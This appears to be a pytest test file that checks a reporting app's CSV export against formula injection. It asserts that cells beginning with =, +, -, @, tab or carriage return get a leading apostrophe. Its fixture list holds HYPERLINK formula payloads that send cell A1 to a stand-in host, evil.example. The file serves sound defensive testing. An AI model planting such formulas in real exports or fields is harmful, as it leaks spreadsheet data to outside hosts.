"""CSV formula injection (OWASP; API.md Corrections, "CSV"): every CSV cell that begins with
`=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`."""

from __future__ import annotations

import csv
import io

import pytest

from core.extensions import db
from reports.csv_export import csv_text, safe_cell
from tests.factories import make_user

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
#: what a spreadsheet would run, one per trigger character.
PAYLOADS = [f'{c}HYPERLINK("http://evil.example/?"&A1,"Click")' for c in TRIGGERS]


def read(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_staff_name_starting_a_formula_is_quoted_in_the_caseload_csv(app, login_as, payload):
    with app.app_context():
        make_user("counsellor", name=payload)
        db.session.commit()
    response = login_as("manager").get("/api/v1/reports/caseload", query_string={"format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    names = [row["name"] for row in read(response.get_data(as_text=True))]
    assert "'" + payload in names
    assert payload not in names


@pytest.mark.parametrize("payload", PAYLOADS)
def test_client_names_starting_a_formula_are_quoted(payload):
    rows = [{"first_name": payload, "last_name": payload[::-1], "mrn": "C00000017"}]
    (row,) = read(csv_text(rows, ["first_name", "last_name", "mrn"]))
    assert row["first_name"] == "'" + payload
    assert row["last_name"] == payload[::-1]  # starts with ")": harmless, unchanged
    assert row["mrn"] == "C00000017"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Alice A", "Alice A"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),  # a number is written as a number
        (0.5, 0.5),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_header_and_missing_values():
    text = csv_text([{"a": None}, {"a": 3, "b": "=x"}], ["a", "b"])
    assert read(text) == [{"a": "", "b": ""}, {"a": "3", "b": "'=x"}]
